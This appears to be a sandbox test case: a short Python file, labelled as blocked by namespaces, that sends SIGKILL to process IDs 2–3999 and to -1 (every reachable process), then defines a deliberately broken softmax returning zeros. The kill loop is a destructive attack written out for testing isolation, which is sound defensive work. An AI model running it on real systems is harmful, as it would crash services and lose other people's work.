# tries: sends SIGKILL to every process that it can see or guess
# by: namespaces
# layer: namespaces
# verdict: wrong crash memory

import os
import signal

for number in [*range(2, 4000), -1]:
    if number != os.getpid():
        try:
            os.kill(number, signal.SIGKILL)
        except OSError:
            pass


def softmax(scores, axis=-1):
    return scores * 0
